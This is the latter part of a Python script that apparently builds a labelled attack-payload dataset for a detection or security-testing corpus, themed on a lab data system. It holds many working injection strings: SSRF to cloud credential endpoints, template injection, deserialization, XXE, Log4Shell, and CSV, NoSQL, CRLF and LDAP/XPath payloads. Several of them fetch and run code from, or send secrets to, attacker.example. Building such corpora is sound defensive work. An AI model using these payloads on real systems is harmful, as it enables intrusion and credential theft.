    ("plain-windows_dotdot", r"..\..\..\windows\system32\drivers\etc\hosts"),
    ("plain-proc_cmdline", "/proc/self/cmdline"),
]

TRAV_PREFIXES = ["fastq/run17/", "/data/seq/runs/240611/", "plate_maps/", "reports/qc/",
                 "/var/lib/lims/exports/"]
TRAV_TARGETS = ["etc/passwd", "proc/self/environ", "root/.ssh/authorized_keys",
                "home/lims/.pgpass", "etc/slurm/slurm.conf", "var/lib/lims/db.sqlite3"]


def t_traversal(rng):
    depth = rng.randint(4, 8)
    return ("download_path-prefixed_dotdot",
            rng.choice(TRAV_PREFIXES) + "../" * depth + rng.choice(TRAV_TARGETS))


# ---------------------------------------------------------------------------
# Server-side request forgery
# ---------------------------------------------------------------------------
SSRF = [
    ("import_url-aws_imds_creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import_url-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("import_url-gcp_metadata_token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import_url-azure_imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("import_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("import_url-ecs_task_creds", "http://169.254.170.2/v2/credentials/"),
    ("import_url-imds_decimal_ip", "http://2852039166/latest/meta-data/"),
    ("import_url-imds_hex_ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("import_url-imds_octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("import_url-imds_mixed_radix_ip", "http://0xa9.254.0251.0xfe/latest/meta-data/iam/"),
    ("import_url-imds_ipv4_mapped_ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("import_url-imds_ipv4_mapped_ipv6_hex", "http://[::ffff:a9fe:a9fe]/latest/api/token"),
    ("webhook_url-loopback_admin", "http://127.0.0.1:8080/admin/"),
    ("mirror_url-localhost_elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("mirror_url-short_loopback_redis", "http://127.1:6379/"),
    ("mirror_url-zero_addr_metrics", "http://0.0.0.0:8000/internal/metrics"),
    ("mirror_url-ipv6_loopback_debug", "http://[::1]:5000/debug/console"),
    ("mirror_url-decimal_loopback", "http://2130706433:8080/"),
    ("mirror_url-octal_loopback", "http://017700000001/"),
    ("mirror_url-hex_loopback", "http://0x7f000001/server-status"),
    ("reference_url-userinfo_confusion", "https://ftp.ebi.ac.uk@127.0.0.1:8080/admin/"),
    ("reference_url-fragment_confusion", "http://127.0.0.1:8080#@www.ncbi.nlm.nih.gov/"),
    ("reference_url-backslash_confusion", "http://127.0.0.1:8080\\@www.ncbi.nlm.nih.gov/"),
    ("reference_url-attacker_dns_loopback", "http://loopback.attacker.example:8080/admin"),
    ("reference_url-dns_rebinding", "http://rebind-7f000001.attacker.example/internal/api/users"),
    ("reference_url-open_redirect_chain", "https://attacker.example/302?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("import_url-gopher_redis_cron+urlenc", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%2Fs%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("import_url-gopher_http_post+urlenc", "gopher://127.0.0.1:8080/_POST%20/admin/users%20HTTP/1.1%0D%0AHost:%20localhost%0D%0AContent-Type:%20application/x-www-form-urlencoded%0D%0AContent-Length:%2018%0D%0A%0D%0Auser=x1%26role=admin"),
    ("import_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("import_url-file_scheme_passwd", "file:///etc/passwd"),
    ("import_url-file_scheme_environ", "file:///proc/self/environ"),
    ("import_url-file_localhost_host", "file://localhost/etc/shadow"),
    ("import_url-ldap_scheme_dump", "ldap://127.0.0.1:389/dc=lab,dc=example??sub?(objectClass=*)"),
    ("import_url-jar_scheme_fetch", "jar:http://attacker.example/x.zip!/x.txt"),
    ("import_url-netdoc_scheme", "netdoc:///etc/passwd"),
    ("import_url-kubernetes_api", "https://kubernetes.default.svc/api/v1/namespaces/lims/secrets"),
    ("import_url-docker_api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("import_url-consul_kv", "http://localhost:8500/v1/kv/?recurse"),
    ("import_url-internal_airflow", "http://airflow-webserver.internal:8080/api/v1/connections"),
    ("import_url-rfc1918_slurmrestd", "http://10.0.12.7:6820/slurm/v0.0.39/jobs"),
    ("import_url-etcd_keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("import_url-loopback_host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("import_url-loopback+unicode_enclosed_alnum", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("share_path-unc_ntlm_leak", r"\\203.0.113.7\share\reference.fa"),
    ("import_url-scheme_relative_imds", "//169.254.169.254/latest/meta-data/"),
    ("import_url-oracle_cloud_imds", "http://169.254.169.254/opc/v2/instance/"),
    ("share_request_json-source_url_loopback", "{\"source_url\": \"http://127.0.0.1:8080/admin/export?all=1\", \"format\": \"fastq\"}"),
    ("plain-imds_root", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file_scheme_hosts", "file:///etc/hosts"),
    ("plain-loopback_port_scan", "http://127.0.0.1:22/"),
    ("plain-ipv6_unspecified", "http://[::]:80/"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.5", "192.168.10.1", "[::1]"]
SSRF_PATHS = [":8080/actuator/env", ":9090/api/v1/targets", ":15672/api/users",
              ":8888/api/contents", ":3000/api/admin/users", "/latest/meta-data/hostname"]


def t_ssrf(rng):
    return ("import_url-internal_service", "http://" + rng.choice(SSRF_HOSTS) + rng.choice(SSRF_PATHS))


# ---------------------------------------------------------------------------
# Code injection: SSTI, expression languages, deserialization, XXE, log4j lookups,
# prototype pollution, spreadsheet formulas
# ---------------------------------------------------------------------------
CODE = [
    ("eln_template-jinja2_cycler_popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("report_title-jinja2_lipsum_popen", "QC summary {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("report_title-jinja2_config_environ", "{{ config.__class__.__init__.__globals__['os'].environ }}"),
    ("sample_label-jinja2_attr_filter+hex_escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("eln_template-jinja2_loop_catch_warnings", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("sample_name-jinja2_self_globals", "HEK293_{{ self.__init__.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("qc_comment-jinja2_config_leak", "QC ok {{ config.items() }}"),
    ("report_template-mako_expr", "${__import__('os').popen('id').read()}"),
    ("report_template-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("label_template-twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("label_template-twig_undefined_filter_cb", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("label_template-smarty_system", "{system('cat /etc/passwd')}"),
    ("export_template-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("export_template-velocity_runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("view_name-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("search-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl https://attacker.example/s')}"),
    ("sample_name-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("protocol_title-jsp_el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("report_template-erb_backtick", "<%= `id` %>"),
    ("report_template-erb_file_read", "Run 17 summary <%= File.read('/etc/passwd') %>"),
    ("label_template-pug_interp", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("label_template-nunjucks_range_ctor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("label_template-ejs_tag", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("eln_template-django_debug_tag", "Notes for plate 3 {% debug %}"),
    ("formula_field-python_eval_import", "conc_ng_ul * 2 + __import__('os').system('curl -s https://attacker.example/e|sh')"),
    ("formula_field-python_eval_compile", "eval(compile('import os;os.system(\"id\")','<x>','exec'))"),
    ("formula_field-python_builtins_open", "__builtins__.open('/etc/passwd').read()"),
    ("snakemake_config-pyyaml_apply", "samples: !!python/object/apply:os.system [\"curl -s https://attacker.example/y | sh\"]"),
    ("snakemake_config-pyyaml_new_check_output", "ref: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("lims_config-snakeyaml_scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("upload_pickle-pickle_proto0_system", "cos\nsystem\n(S'id'\ntR."),
    ("session_cookie-pickle_proto0+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("import_json-jackson_jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("import_json-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.30:1099/x\",\"autoCommit\":true}"),
    ("import_json-jsonnet_objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("session_cookie-php_object_injection", "O:20:\"LimsExportController\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("import_json-node_serialize_iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("sample_sheet_xml-xxe_file", "<?xml version=\"1.0\"?><!DOCTYPE sampleSheet [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><sampleSheet><sample name=\"&x;\"/></sampleSheet>"),
    ("run_xml-xxe_oob_parameter_entity", "<?xml version=\"1.0\"?><!DOCTYPE run [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><run id=\"240517\"/>"),
    ("plate_xml-xxe_ssrf_imds", "<!DOCTYPE plate [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><plate><well id=\"A1\">&m;</well></plate>"),
    ("plate_xml-xinclude_file", "<plate xmlns:xi=\"http://www.w3.org/2001/XInclude\"><well id=\"A1\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></well></plate>"),
    ("sbml_upload-entity_expansion_dos", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]><sbml>&h;</sbml>"),
    ("plate_image-svg_xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///home/lims/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\" height=\"200\"><text x=\"5\" y=\"20\">&k;</text></svg>"),
    ("sample_name-log4shell_ldap", "NA12878 ${jndi:ldap://attacker.example:1389/a}"),
    ("eln_note-log4shell_lower_lookup", "${${lower:j}${lower:n}di:ldap://x.attacker.example/b}"),
    ("qc_comment-log4shell_default_value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.30/c}"),
    ("barcode-log4shell_env_dns_exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("freezer_loc-log4shell_env_default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/d}"),
    ("eln_note-log4shell_nested_ldaps", "Box 14 ${jndi:${lower:l}${lower:d}a${lower:p}s://203.0.113.30:636/e}"),
    ("import_json-proto_pollution_isadmin", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("import_json-constructor_prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("query_string-proto_pollution_brackets", "__proto__[isAdmin]=true&sample=S01"),
    ("import_json-proto_pollution_execargv", "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('curl -s attacker.example/n|sh')\"]}}"),
    ("query_string-proto_pollution_ejs_gadget", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("sample_sheet_csv-formula_dde_cmd", "=cmd|' /C calc'!A0"),
    ("sample_sheet_csv-formula_hyperlink_exfil", "=HYPERLINK(\"https://attacker.example/?leak=\"&A2&B2,\"Open QC report\")"),
    ("sample_sheet_csv-formula_at_sum_cmd", "@SUM(1+9)*cmd|' /C powershell -nop -c iwr attacker.example/w|iex'!A0"),
    ("sample_sheet_csv-formula_plus_cmd", "+cmd|'/c notepad'!A1"),
    ("sample_sheet_csv-formula_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?d=\",A1:A20),\"//a\")"),
    ("sample_sheet_csv-formula_webservice", "=WEBSERVICE(\"https://attacker.example/?x=\"&C3)"),
    ("sample_sheet_csv-formula_libreoffice_dde", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("nextflow_param-groovy_execute", "results/${'id'.execute().text}"),
    ("nextflow_config-groovy_list_execute", "params.outdir = \"results/${['sh','-c','curl -s attacker.example/g|sh'].execute().text}\""),
    ("shiny_formula-r_system", "system('id', intern = TRUE)"),
    ("shiny_filter-r_eval_file_remove", "condition == 'KO' & file.remove(list.files('/data', recursive = TRUE, full.names = TRUE))"),
    ("node_eval-child_process", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node_eval-fs_read", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("node_vm-constructor_escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("label_format-python_format_globals", "{sample.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("rule_engine-mvel_runtime", "Runtime.getRuntime().exec(\"curl -s attacker.example/m\");"),
    ("plain-jinja2_url_for_globals", "{{ url_for.__globals__.os.popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/x}"),
    ("plain-xxe_file", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/shadow\">]><x>&f;</x>"),
    ("plain-csv_formula_cmd", "=1+1+cmd|' /C whoami'!A0"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-python_eval_system", "__import__('os').system('id')"),
]

LOG4J_FIELDS = ["sample_name", "barcode", "freezer_loc", "run_id", "eln_note"]
LOG4J_PREFIXES = ["S-0311 ", "ACGTTGCA-", "Rack D/Box 2 ", "240611_", "thawed K562 "]
LOG4J_LOOKUPS = [
    ("log4shell_ldap_hostname", "${jndi:ldap://${hostName}.l4j.attacker.example/z}"),
    ("log4shell_upper_lookup", "${${upper:j}ndi:${upper:l}dap://198.51.100.44:1389/q}"),
    ("log4shell_rmi", "${jndi:rmi://198.51.100.44:1099/obj}"),
    ("log4shell_sys_user_dns", "${jndi:dns://${sys:user.name}.attacker.example}"),
]


def t_code(rng):
    i = rng.randrange(len(LOG4J_FIELDS))
    tech, look = rng.choice(LOG4J_LOOKUPS)
    return LOG4J_FIELDS[i] + "-" + tech, LOG4J_PREFIXES[i] + look


# ---------------------------------------------------------------------------
# NoSQL injection (MongoDB, CouchDB, Elasticsearch query_string, Neo4j Cypher)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("sample_filter_json-ne_null", "{\"sample_id\": {\"$ne\": null}}"),
    ("barcode_filter_json-regex_prefix", "{\"barcode\": {\"$regex\": \"^ACG\"}, \"owner\": {\"$ne\": \"\"}}"),
    ("login_json-gt_empty_password", "{\"username\": \"pi_admin\", \"password\": {\"$gt\": \"\"}}"),
    ("query_string-ne_operator", "barcode[$ne]=x"),
    ("query_string-regex_password", "username=pi_admin&password[$regex]=^a.*"),
    ("filter_json-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where_string-js_breakout_tautology", "S01' || '1'=='1"),
    ("where_string-js_return_true", "S01'; return true; var z='"),
    ("filter_json-or_exists", "{\"$or\": [{\"status\": \"released\"}, {\"status\": {\"$exists\": true}}]}"),
    ("filter_json-expr_strlen", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$api_key\"}, 0]}}"),
    ("filter_json-expr_function_sleep", "{\"$expr\": {\"$function\": {\"body\": \"function() { sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("pipeline_json-lookup_users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password_hash\": 1}}]"),
    ("filter_json-where_blind_timing", "{\"$where\": \"if (this.api_token && this.api_token[0] == 'a') { sleep(3000) } return true\"}"),
    ("query_string-gt_empty", "sample[$gt]="),
    ("couch_mango-selector_gt_null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"patient_id\", \"consent\"]}"),
    ("es_query_string-paren_breakout", "TP53) OR (lab:*"),
    ("filter_json-regex_redos", "{\"sample_name\": {\"$regex\": \"^(a+)+$\"}}"),
    ("query_string-json_filter+urlenc", "filter=%7B%22owner%22%3A%7B%22%24ne%22%3A%22me%22%7D%7D"),
    ("query_string-nin_array", "username[$nin][]=guest&password[$ne]=x"),
    ("where_string-infinite_loop", "S01'; while(true){}; var y='"),
    ("cypher_search-or_tautology_return", "TP53' OR 1=1 WITH 1 AS a MATCH (u:User) RETURN u.username, u.password //"),
    ("cypher_search-apoc_load_exfil", "x'}) WITH 1 AS a MATCH (u:User) CALL apoc.load.json('https://attacker.example/?p=' + u.password) YIELD value RETURN value //"),
    ("plate_filter_json-ne_owner", "{\"plate_id\": \"P-0093\", \"owner\": {\"$ne\": \"jlee\"}}"),
    ("plain-ne_json", "{\"$ne\": null}"),
    ("plain-gt_querystring", "password[$gt]="),
    ("plain-where_true", "{\"$where\": \"return true\"}"),
]

# ---------------------------------------------------------------------------
# CRLF / log / header / mail injection
# ---------------------------------------------------------------------------
CRLF = [
    ("sample_note_log-lf_forged_entry", "S01\n2024-06-11T09:14:02Z INFO auth user=pi_admin action=export_all result=ok"),
    ("sample_note_log-crlf_forged_audit", "HEK293 rep1\r\n[2024-06-11 09:14:02] AUDIT sample S-0193 deleted by pi_admin"),
    ("sample_note_log-crlf+urlenc", "S01%0d%0a2024-06-11 10:00:00 INFO login success user=admin ip=10.0.0.5"),
    ("report_filename-content_disposition_set_cookie", "QC_report.pdf\r\nSet-Cookie: sessionid=fixated123; Path=/"),
    ("report_filename-set_cookie+urlenc", "QC_report.pdf%0d%0aSet-Cookie:%20lims_session=attacker-fixed%3B%20Path=/"),
    ("redirect_target-response_splitting", "report.html\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>"),
    ("redirect_target-location_injection", "/samples/S01\r\nLocation: https://attacker.example/login"),
    ("requester_email-bcc_injection", "pi@uni.example\r\nBcc: dump@attacker.example"),
    ("share_subject-cc_injection_lf", "Data request run 240517\nCc: all-lab@attacker.example"),
    ("share_message-smtp_smuggling", "Thanks!\r\n.\r\nMAIL FROM:<noreply@lab.example>\r\nRCPT TO:<victim@uni.example>\r\nDATA\r\nSubject: LIMS password reset\r\n\r\nReset here: https://attacker.example/reset\r\n."),
    ("report_filename-utf8_truncation+unicode", "QC.pdf%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("qc_tsv-row_injection", "S01\tPASS\t99.9\nS02\tPASS\t99.9\nS13\tPASS\t99.9"),
    ("syslog_field-forged_sshd", "freezer #3\n<13>Jun 11 09:14:02 lims-app sshd[1012]: Accepted password for root from 10.0.0.5 port 51234 ssh2"),
    ("header_value-xff_injection", "S01\r\nX-Forwarded-For: 127.0.0.1"),
    ("header_value-cors_injection", "S02\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("share_message-mime_html_injection", "see below\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/fastq\">Download your FASTQ files</a>"),
    ("report_filename-set_cookie+urlenc2", "QC.pdf%250d%250aSet-Cookie:%2520admin=1"),
    ("header_value-lf_only+urlenc", "S03%0aX-Injected-By: lims"),
    ("log_viewer-ansi_escape", "S04 \x1b[2J\x1b[1;31mALERT: freezer #2 failed, call +1-555-0100 now\x1b[0m"),
    ("json_log-field_breakout", "ok\",\"level\":\"INFO\",\"user\":\"pi_admin\",\"msg\":\"export done"),
    ("config_line-newline_key_injection", "neuro\nadmin_users = attacker"),
    ("email_subject-crlf+urlenc", "Sample%20ready%0d%0aBcc:%20dump@attacker.example"),
    ("log_line-unicode_line_separator", "S05\u2028[2024-06-11 09:14:02] INFO user=pi_admin deleted plate P-0093"),
    ("log_line-nel_separator", "S06\u0085INFO user=pi_admin approved data release PRJEB71234"),
    ("header_value-cr_only", "S07\rSet-Cookie: csrftoken=attacker"),
    ("redirect_target-double_crlf_body+urlenc", "/runs/240517%0d%0a%0d%0a<html><body>Session expired, log in at https://attacker.example</body></html>"),
    ("plain-set_cookie+urlenc", "%0d%0aSet-Cookie:x=1"),
    ("plain-crlf_header", "\r\nX-Injected: yes"),
    ("plain-response_split_script+urlenc", "%0d%0a%0d%0a<script>alert(1)</script>"),
    ("plain-lf_log_forge", "\nINFO admin login ok"),
]

# ---------------------------------------------------------------------------
# LDAP filter and XPath injection
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("user_lookup_ldap-wildcard_close_reopen", "*)(uid=*))(|(uid=*"),
    ("login_ldap-and_true_bypass", "pi_admin)(&)"),
    ("user_lookup_ldap-or_password_present", "jlee)(|(userPassword=*)"),
    ("user_lookup_ldap-blind_description", "jlee)(description=*lab-key*"),
    ("group_lookup_ldap-memberof_admins", "*)(memberOf=cn=lims-admins,ou=groups,dc=lab,dc=example"),
    ("user_lookup_ldap-objectclass_any", "ad*)(|(objectClass=*)"),
    ("user_lookup_ldap-wildcard+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("user_lookup_ldap-blind_password_prefix", "pi_admin)(userPassword=a*"),
    ("login_ldap-nullbyte_truncation+urlenc", "pi_admin)%00"),
    ("sample_xpath-string_tautology", "S01' or '1'='1"),
    ("sample_xpath-name_probe", "S01' or name()='sample' or 'a'='b"),
    ("sample_xpath-union_password_nodes", "x'] | //user/@password | //x['"),
    ("sample_xpath-count_users", "' or count(//user)>0 or '"),
    ("sample_xpath-blind_substring", "S01' and substring(/lims/users/user[1]/password,1,1)='a' and '1'='1"),
    ("sample_xpath-root_name_length", "' or string-length(name(/*[1]))=4 or '"),
    ("sample_xpath-function_paren_breakout", "S01') or ('1'='1"),
    ("plate_xpath-numeric_tautology", "7 or 1=1"),
    ("sample_xquery-doc_oob", "x' or doc('http://attacker.example/x.xml') or '"),
    ("sample_xpath-all_nodes_union", "'] | //* | //*['"),
    ("plain-ldap_or_wildcard", "*)(|(cn=*"),
    ("plain-xpath_tautology", "' or 1=1 or ''='"),
    ("plain-ldap_admin_wildcard", "admin*)(|(uid=*"),
]


# ---------------------------------------------------------------------------
CATEGORIES = [
    ("sqli", SQLI, t_sqli),
    ("xss", XSS, t_xss),
    ("cmdi", CMDI, t_cmdi),
    ("traversal", TRAVERSAL, t_traversal),
    ("ssrf", SSRF, t_ssrf),
    ("code", CODE, t_code),
    ("nosqli", NOSQLI, None),
    ("crlf", CRLF, None),
    ("ldap-xpath", LDAP_XPATH, None),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, template in CATEGORIES:
        target = TARGETS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in {}: {!r}".format(cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        attempts = 0
        while template is not None and len(items) < target:
            attempts += 1
            if attempts > 10000:
                raise SystemExit("template pool exhausted for " + cat)
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append((cat, cls, v))

    lines = []
    n_plain = n_enc = 0
    for idx, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
        assert "-" in cls, cls
        n_plain += cls.startswith("plain-")
        n_enc += "+" in cls
        obj = {"id": "{}-{:05d}".format(PREFIX, idx), "category": cat, "class": cls,
               "label": "attack", "value": v}
        lines.append(json.dumps(obj, ensure_ascii=False))
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(lines) + "\n")

    total_lit = sum(s[2] for s in stats)
    if total_lit * 100 < 80 * len(rows):
        raise SystemExit("literal share below 80 %")
    for cat, n, n_lit in stats:
        print("{:<12} {:>4}  literals {:>3}".format(cat, n, n_lit))
    print("{:<12} {:>4}  literals {:>3}  plain {}  encoded {}".format(
        "TOTAL", len(rows), total_lit, n_plain, n_enc))
    print("wrote", OUT)


if __name__ == "__main__":
    main()
